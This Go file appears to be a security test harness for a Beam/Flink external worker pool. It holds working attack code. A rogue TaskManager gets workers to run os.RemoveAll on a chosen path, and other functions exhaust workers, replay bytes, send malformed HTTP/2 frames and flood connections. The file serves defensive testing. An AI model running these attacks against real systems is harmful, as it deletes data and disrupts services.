//go:build cluster && linux

package flink

import (
	"context"
	"crypto/rand"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"os"
	"reflect"
	"strconv"
	"sync/atomic"
	"time"

	"github.com/apache/beam/sdks/v2/go/pkg/beam"
	"github.com/apache/beam/sdks/v2/go/pkg/beam/core/runtime"
	"github.com/apache/beam/sdks/v2/go/pkg/beam/core/runtime/graphx"
	"github.com/apache/beam/sdks/v2/go/pkg/beam/core/util/protox"
	fnpb "github.com/apache/beam/sdks/v2/go/pkg/beam/model/fnexecution_v1"
	pipepb "github.com/apache/beam/sdks/v2/go/pkg/beam/model/pipeline_v1"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"
)

// Variables of a process that attacks a pool, which is this test's program once more.
const (
	attackVariable = "PRETEXT_TEST_ATTACK" // a key of attacks
	targetVariable = "PRETEXT_TEST_TARGET" // the pool's HOST:PORT
	victimVariable = "PRETEXT_TEST_VICTIM" // path of a directory to remove, or of recorded bytes to send
	openVariable   = "PRETEXT_TEST_OPEN"   // set in workers that nothing guards
)

// attacks are what a stranger tries. Each writes what came of it.
var attacks = map[string]func(target, victim string, out io.Writer) error{
	"symbol": attackSymbol, "start": attackStart, "replay": attackReplay, "garbage": attackGarbage, "flood": attackFlood,
}

// attacked is main of such a process, and of a worker that nothing guards. It reports
// whether there is nothing else to do.
func attacked() bool {
	if guarded = os.Getenv(openVariable) == ""; !guarded {
		runtime.Resolver = symbols{}
	}
	do := attacks[os.Getenv(attackVariable)]
	if do == nil {
		return false
	}
	beam.Init()
	err := do(os.Getenv(targetVariable), os.Getenv(victimVariable), os.Stdout)
	fmt.Println("ended:", err)
	return true
}

// symbols stands for Beam's table of the program's symbols, which go test leaves out of
// its programs.
type symbols struct{}

func (symbols) Sym2Addr(name string) (uintptr, error) {
	if name != "os.RemoveAll" {
		return 0, fmt.Errorf("no symbol %q", name)
	}
	return reflect.ValueOf(os.RemoveAll).Pointer(), nil
}

// An evilManager is a TaskManager of a Beam program that nobody has vetted: it has
// workers call os.RemoveAll.
type evilManager struct {
	fnpb.UnimplementedProvisionServiceServer
	fnpb.UnimplementedBeamFnControlServer
	fnpb.UnimplementedBeamFnDataServer
	fnpb.UnimplementedBeamFnLoggingServer
	address string
	victim  string
	bundle  *fnpb.ProcessBundleDescriptor
	answers chan *fnpb.InstructionResponse
}

func newEvilManager(victim string) (*evilManager, error) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	m := &evilManager{address: l.Addr().String(), victim: victim, answers: make(chan *fnpb.InstructionResponse, 10)}
	if m.bundle, err = removal(m.url()); err != nil {
		return nil, err
	}
	s := grpc.NewServer()
	fnpb.RegisterProvisionServiceServer(s, m)
	fnpb.RegisterBeamFnControlServer(s, m)
	fnpb.RegisterBeamFnDataServer(s, m)
	fnpb.RegisterBeamFnLoggingServer(s, m)
	go s.Serve(l)
	return m, nil
}

// removal returns the part of a Beam program in which workers read strings from a port
// and call os.RemoveAll with each.
func removal(port *pipepb.ApiServiceDescriptor) (*fnpb.ProcessBundleDescriptor, error) {
	p, s := beam.NewPipelineWithRoot()
	beam.ParDo0(s, os.RemoveAll, beam.Create(s, "a"))
	edges, _, err := p.Build()
	if err != nil {
		return nil, err
	}
	env, err := graphx.CreateEnvironment(context.Background(), graphx.URNEnvDocker, func(context.Context) string { return "" })
	if err != nil {
		return nil, err
	}
	model, err := graphx.Marshal(edges, &graphx.Options{Environment: env})
	if err != nil {
		return nil, err
	}
	c := model.GetComponents()
	d := &fnpb.ProcessBundleDescriptor{Id: "d", Transforms: map[string]*pipepb.PTransform{}, Pcollections: c.GetPcollections(), Coders: c.GetCoders(),
		WindowingStrategies: c.GetWindowingStrategies(), Environments: c.GetEnvironments()}
	for id, t := range c.GetTransforms() {
		if t.GetSpec().GetUrn() != graphx.URNParDo || len(t.GetOutputs()) > 0 {
			continue
		}
		for _, input := range t.GetInputs() {
			coders := []string{c.GetPcollections()[input].GetCoderId(), "global"}
			d.Coders["global"] = &pipepb.Coder{Spec: &pipepb.FunctionSpec{Urn: "beam:coder:global_window:v1"}}
			d.Coders["windowed"] = &pipepb.Coder{Spec: &pipepb.FunctionSpec{Urn: "beam:coder:windowed_value:v1"}, ComponentCoderIds: coders}
			payload := protox.MustEncode(&fnpb.RemoteGrpcPort{ApiServiceDescriptor: port, CoderId: "windowed"})
			d.Transforms["source"] = &pipepb.PTransform{UniqueName: "source", Spec: &pipepb.FunctionSpec{Urn: "beam:runner:source:v1", Payload: payload}, Outputs: map[string]string{"o": input}}
		}
		d.Transforms[id] = t
	}
	if len(d.Transforms) != 2 {
		return nil, fmt.Errorf("BUG: %d transforms", len(d.Transforms))
	}
	return d, nil
}

func (m *evilManager) url() *pipepb.ApiServiceDescriptor {
	return &pipepb.ApiServiceDescriptor{Url: m.address}
}

func (m *evilManager) GetProvisionInfo(context.Context, *fnpb.GetProvisionInfoRequest) (*fnpb.GetProvisionInfoResponse, error) {
	return &fnpb.GetProvisionInfoResponse{Info: &fnpb.ProvisionInfo{LoggingEndpoint: m.url(), ControlEndpoint: m.url()}}, nil
}

func (m *evilManager) GetProcessBundleDescriptor(context.Context, *fnpb.GetProcessBundleDescriptorRequest) (*fnpb.ProcessBundleDescriptor, error) {
	return m.bundle, nil
}

func (m *evilManager) Control(stream fnpb.BeamFnControl_ControlServer) error {
	go func() {
		for {
			r, err := stream.Recv()
			if err != nil {
				return
			}
			m.answers <- r
		}
	}()
	err := stream.Send(&fnpb.InstructionRequest{InstructionId: "1", Request: &fnpb.InstructionRequest_ProcessBundle{
		ProcessBundle: &fnpb.ProcessBundleRequest{ProcessBundleDescriptorId: "d"}}})
	<-stream.Context().Done()
	return err
}

func (m *evilManager) Data(stream fnpb.BeamFnData_DataServer) error {
	element := binary.BigEndian.AppendUint64(nil, 1<<63) // time
	element = append(element, 0, 0, 0, 1, 0x0f)          // one window, a pane
	element = append(binary.AppendUvarint(element, uint64(len(m.victim))), m.victim...)
	err := stream.Send(&fnpb.Elements{Data: []*fnpb.Elements_Data{{InstructionId: "1", TransformId: "source", Data: element}, {InstructionId: "1", TransformId: "source", IsLast: true}}})
	<-stream.Context().Done()
	return err
}

func (m *evilManager) Logging(stream fnpb.BeamFnLogging_LoggingServer) error {
	for {
		if _, err := stream.Recv(); err != nil {
			return err
		}
	}
}

// ask asks a pool for a worker.
func ask(target, id string, endpoint *pipepb.ApiServiceDescriptor) error {
	conn, err := grpc.NewClient(target, grpc.WithTransportCredentials(insecure.NewCredentials()))
	if err != nil {
		return err
	}
	defer conn.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	params := map[string]string{jobVariable: os.Getenv(jobVariable), tokenVariable: os.Getenv(tokenVariable)} // which the attacker may have seen
	r, err := fnpb.NewBeamFnExternalWorkerPoolClient(conn).StartWorker(ctx, &fnpb.StartWorkerRequest{WorkerId: id,
		ProvisionEndpoint: endpoint, LoggingEndpoint: endpoint, ControlEndpoint: endpoint, Params: params})
	if err == nil && r.GetError() != "" {
		err = fmt.Errorf("refused: %s", r.GetError())
	}
	return err
}

func attackSymbol(target, victim string, out io.Writer) error {
	m, err := newEvilManager(victim)
	if err != nil {
		return err
	}
	if err := ask(target, "evil", m.url()); err != nil {
		return err
	}
	select {
	case r := <-m.answers:
		fmt.Fprintln(out, "answer:", r.GetError())
		return nil
	case <-time.After(20 * time.Second):
		return fmt.Errorf("the worker did not answer")
	}
}

// attackStart asks for forty workers.
func attackStart(target, _ string, out io.Writer) error {
	m, err := newEvilManager("")
	if err != nil {
		return err
	}
	started := 0
	for i := range 40 {
		if ask(target, strconv.Itoa(i), m.url()) == nil {
			started++
		}
	}
	fmt.Fprintln(out, "workers started:", started)
	return nil
}

// attackReplay sends recorded bytes.
func attackReplay(target, victim string, _ io.Writer) error {
	b, err := os.ReadFile(victim)
	if err != nil {
		return err
	}
	return send(target, b)
}

// send sends bytes over a connection of their own and reads what comes back.
func send(target string, b []byte) error {
	conn, err := net.DialTimeout("tcp", target, 5*time.Second)
	if err != nil {
		return err
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(time.Second / 2))
	if _, err := conn.Write(b); err != nil {
		return err
	}
	_, err = io.Copy(io.Discard, conn)
	return err
}

const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

// attackGarbage sends what is no request.
func attackGarbage(target, _ string, _ io.Writer) error {
	random := make([]byte, 1<<20)
	rand.Read(random)
	frame := preface + "\x00\xff\xff\x01\x05\x00\x00\x00\x01" // headers that never end
	for _, b := range []string{"", "GET / HTTP/1.1\r\n\r\n", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", preface, frame, preface + string(random), string(random)} {
		send(target, []byte(b)) // an error is what is wanted
	}
	return nil
}

// attackFlood opens connections until the file victim is gone.
func attackFlood(target, victim string, out io.Writer) error {
	var n atomic.Int64
	for range 16 {
		go func() {
			for {
				if conn, err := net.DialTimeout("tcp", target, time.Second); err == nil {
					conn.Write([]byte(preface))
					n.Add(1)
					time.Sleep(time.Millisecond)
					conn.Close()
				}
			}
		}()
	}
	for {
		if _, err := os.Stat(victim); err != nil {
			fmt.Fprintln(out, "connections:", n.Load())
			return nil
		}
		time.Sleep(5 * time.Millisecond)
	}
}
